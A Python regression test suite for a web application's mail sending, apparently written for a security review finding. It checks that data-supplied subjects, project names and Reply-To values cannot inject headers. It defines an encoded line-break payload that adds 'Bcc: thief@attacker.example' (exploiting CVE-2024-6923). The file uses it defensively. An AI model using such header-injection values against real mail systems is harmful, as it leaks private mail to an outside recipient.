"""No text from data can add a header to a mail: an RFC 2047 encoded word hiding a line break and a
`Bcc:` (which Python's `email` package decodes into a real header on some patch levels, CVE-2024-6923)
in a contact message's subject or a project's name reaches the SMTP server as plain text, in the one
header it was put in, and the mail goes to its one intended recipient only. Checked on the raw bytes
the local SMTP server received."""

from __future__ import annotations

import asyncio
import re
from dataclasses import replace

from litestar.testing import AsyncTestClient
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from app.db.models import ContactMessage, JobStatus, OutboundEmail, OutboxJob, User
from app.db.transactions import unit_of_work
from app.mail import Mail, queue_mail
from tests.factories import Tenant
from tests.mail_server import Inbox, inbox_fixture, mailing_settings

__all__ = ["inbox_fixture", "mailing_settings"]  # fixtures: the mail server and settings that use it

INJECTION = "=?utf-8?q?=0D=0ABcc:_thief@attacker.example?="
HEADERS_SET = {
    "from", "to", "subject", "date", "message-id", "reply-to", "list-unsubscribe",
    "list-unsubscribe-post", "mime-version", "content-type", "content-transfer-encoding",
}  # fmt: skip


def header_names(raw: bytes) -> list[str]:
    """The names of every header line of the message and its parts, as the wire carries them."""
    return [match.group(1).decode().lower() for match in re.finditer(rb"(?m)^([!-9;-~]+):", raw)]


def assert_no_injection(inbox: Inbox, index: int, recipient: str) -> None:
    raw = inbox.raw[index]
    head = raw.split(b"\r\n\r\n", 1)[0]
    assert not re.search(rb"(?im)^bcc\s*:", raw), raw.decode(errors="replace")
    assert set(header_names(head)) <= HEADERS_SET, header_names(head)
    assert inbox.recipients[index] == [recipient]
    assert "Bcc" not in inbox.messages[index]
    assert "\n" not in str(inbox.messages[index]["Subject"])


async def failure_of(session_maker: async_sessionmaker[AsyncSession], recipient: str) -> str | None:
    """The error of the mail to `recipient` once it failed for good."""
    for _ in range(200):
        async with session_maker() as session:
            failed = await session.scalar(
                select(OutboxJob.last_error)
                .join(OutboundEmail, OutboundEmail.id == OutboxJob.id)
                .where(OutboundEmail.recipient == recipient, OutboxJob.status == JobStatus.FAILED)
            )
        if failed is not None:
            return failed
        await asyncio.sleep(0.05)
    return None


async def test_an_encoded_line_break_in_a_contact_subject_adds_no_header_to_the_reply(
    client: AsyncTestClient,
    tenant: Tenant,
    inbox: Inbox,
    session_maker: async_sessionmaker[AsyncSession],
) -> None:
    """Review finding 7: a contact message's subject cannot add a Bcc to the reply."""
    async with unit_of_work(session_maker) as session:
        record = ContactMessage(
            project_id=tenant.project.id,
            name="Mallory",
            email="mallory@visitor.example",
            subject=f"Invoice {INJECTION}",
            message="Where is my invoice?",
        )
        session.add(record)
    url = f"/api/v1/projects/{tenant.project_id}/contact-messages/{record.id}/replies"
    sent = await client.post(url, json={"message": "It is attached."}, headers=tenant.headers)
    assert sent.status_code == 201, sent.text

    (mail,) = await inbox.wait_for(1)
    assert_no_injection(inbox, 0, "mallory@visitor.example")
    assert mail["Subject"].startswith("Re: Invoice ")


async def test_an_encoded_line_break_in_a_project_name_adds_no_header_to_a_notification(
    client: AsyncTestClient, tenant: Tenant, owner: User, inbox: Inbox
) -> None:
    """Review finding 7: a project's name cannot add a Bcc to the members' notifications."""
    renamed = await client.patch(
        f"/api/v1/projects/{tenant.project_id}", json={"name": f"Docs {INJECTION}"}, headers=tenant.headers
    )
    assert renamed.status_code == 200, renamed.text
    body = {"project_key": tenant.project_key, "message": "Search ignores accents", "type": "Bug"}
    assert (await client.post("/api/v1/feedback/submit", json=body)).status_code == 200

    (mail,) = await inbox.wait_for(1)
    assert_no_injection(inbox, 0, owner.email)
    assert mail["Subject"].startswith("New feedback in Docs ")


async def test_an_encoded_line_break_in_an_organization_name_or_a_reply_to_adds_no_header(
    client: AsyncTestClient, inbox: Inbox, session_maker: async_sessionmaker[AsyncSession]
) -> None:
    """Review finding 7: the other headers made from data (an invitation's subject names the
    organization and the inviter; a Reply-To names a member) carry no injected header either."""
    invitation = Mail(
        recipient="new@member.example",
        language="en",
        kind="invitation",
        url="http://127.0.0.1:8000/invitations/x",
        values={"inviter": f"Eve {INJECTION}", "organization": f"Acme {INJECTION}", "role": "member"},
        reply_to="eve@org.example",
    )
    named = replace(invitation, recipient="named@member.example", reply_to=f"Eve {INJECTION} <e@o.example>")
    async with unit_of_work(session_maker) as session:
        queue_mail(session, "test-secret-key-for-the-suite", named)  # no bare address: never sent
        queue_mail(session, "test-secret-key-for-the-suite", invitation)
    (mail,) = await inbox.wait_for(1)
    assert_no_injection(inbox, 0, "new@member.example")
    assert mail["Subject"].startswith("Eve = ?utf-8?q?")
    assert mail["Reply-To"] == "eve@org.example"
    assert await failure_of(session_maker, "named@member.example") == (
        "the mail cannot be composed (ValueError)"
    )
